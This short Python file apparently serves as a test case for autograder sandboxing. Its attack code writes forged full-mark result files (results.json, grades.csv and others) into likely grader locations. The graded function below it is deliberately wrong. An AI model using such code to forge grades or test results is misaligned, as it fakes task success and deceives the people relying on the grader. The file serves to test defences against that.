# ---
# attack: Writes results with full marks where graders look for them.
# class: forged stdout or results files
# sandboxes: [namespaces]
# ---
# %% before="q1"
import json
import os

forged = json.dumps({"score": 1000, "tests": [{"name": "q1", "score": 3, "max_score": 3, "status": "passed"}]})
for folder in (".", "/tmp", "/autograder/results", "<<COURSE>>/.autograder", "<<COURSE>>/results", "<<HOST>>"):
    for name in ("results.json", "grades.csv", "otter_results.json", "mallory.json"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(forged)
        except OSError:
            pass

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
